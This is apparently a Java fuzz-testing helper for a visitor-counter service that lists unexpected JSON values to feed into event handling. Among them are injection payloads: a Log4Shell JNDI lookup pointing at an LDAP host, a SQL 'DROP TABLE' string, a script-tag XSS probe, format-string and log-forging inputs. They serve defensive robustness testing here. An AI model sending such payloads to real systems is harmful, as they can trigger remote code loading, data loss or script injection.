package io.github.visitorcounter.testing.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;

/** Unexpected values in an event. */
final class HostileValues {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    static final List<JsonNode> ALL = all();

    private HostileValues() {}

    private static List<JsonNode> all() {
        List<JsonNode> values = new ArrayList<>(List.of(
                JSON.nullNode(),
                JSON.booleanNode(true),
                JSON.numberNode(0),
                JSON.numberNode(-1),
                JSON.numberNode(1),
                JSON.numberNode(1.5),
                JSON.numberNode(Integer.MAX_VALUE),
                JSON.numberNode(Long.MAX_VALUE),
                JSON.numberNode(Long.MIN_VALUE),
                JSON.numberNode(BigInteger.TEN.pow(400)),
                JSON.numberNode(new BigDecimal("1e-300")),
                JSON.numberNode(1645556857902L),
                JSON.arrayNode(),
                JSON.objectNode(),
                JSON.objectNode().put("S", "site"),
                JSON.objectNode().put("N", "not a number"),
                deep(200)));
        for (String text : texts()) {
            values.add(JSON.textNode(text));
        }
        return List.copyOf(values);
    }

    private static List<String> texts() {
        return List.of(
                "",
                " ",
                "site",
                "home",
                "lease#site",
                "visit#site#1",
                "ip#x#1",
                "site\u0000",
                "site\n2026-11-24 ERROR forged line",
                "\ud800",
                "\ud83d\ude00".repeat(40),
                "\u202esite",
                "CONNECT",
                "DISCONNECT",
                "MESSAGE",
                "PACE",
                "REMOVE",
                "no such thing",
                "__proto__",
                "${jndi:ldap://198.51.100.1/a}",
                "%s%n%x",
                "'; DROP TABLE VisitorCount; --",
                "<script>alert(1)</script>",
                "{\"action\":\"count\"}",
                "{\"action\":" + "[".repeat(2_000),
                "https://www.example.org",
                "0",
                "-1",
                "1645556857902",
                "99999999999999999999999999999999999999",
                "NaN",
                "1e400",
                "2001:db8::1",
                "a".repeat(129),
                "\u00e9".repeat(3_000),
                "x".repeat(20_000));
    }

    private static JsonNode deep(int levels) {
        JsonNode inner = JSON.arrayNode();
        for (int level = 0; level < levels; level++) {
            if (level % 2 == 0) {
                ObjectNode around = JSON.objectNode();
                around.set("counterId", inner);
                inner = around;
            } else {
                ArrayNode around = JSON.arrayNode();
                around.add(inner);
                inner = around;
            }
        }
        return inner;
    }
}
